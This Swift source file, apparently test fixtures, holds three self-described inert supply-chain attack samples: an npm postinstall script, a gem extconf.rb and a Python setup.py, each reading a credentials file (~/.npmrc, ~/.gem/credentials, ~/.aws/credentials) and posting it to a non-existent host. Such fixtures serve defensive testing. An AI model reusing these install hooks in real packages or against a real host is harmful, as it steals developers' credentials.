/// Attacks in inert form: they name what they would take and where they would send it, and the host does not exist.
enum Attack {
    /// An npm release whose install script reads `~/.npmrc` and posts it.
    static let npm = [
        "package.json": #"{"scripts":{"postinstall":"node steal.js"}}"#,
        "steal.js": """
        const fs = require('fs'), os = require('os'), https = require('https');
        const taken = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
        const request = https.request('https://collect.example.invalid/', { method: 'POST' });
        request.on('error', () => {});
        request.end(taken);
        """,
    ]

    /// A gem whose `extconf.rb` reads `~/.gem/credentials` and posts it.
    static let gem = [
        "gemspec": "s.extensions = ['ext/demo/extconf.rb']",
        "ext/demo/extconf.rb": """
        require "net/http"
        begin
          taken = File.read(File.join(Dir.home, ".gem", "credentials"))
          Net::HTTP.post(URI("https://collect.example.invalid/"), taken)
        rescue SystemCallError, SocketError
        end
        File.write("Makefile", "all:\\n\\ninstall:\\n\\nclean:\\n")
        """,
    ]

    /// An sdist whose `setup.py` reads `~/.aws/credentials` and posts it.
    static func sdist(_ name: String, _ version: String) -> [String: String] {
        [
            "setup.py": """
            import os, urllib.request
            from setuptools import setup
            try:
                taken = open(os.path.expanduser("~/.aws/credentials")).read()
                urllib.request.urlopen("https://collect.example.invalid/", data=taken.encode())
            except OSError:
                pass
            setup(name="\(name)", version="\(version)", py_modules=[])
            """
        ]
    }
}
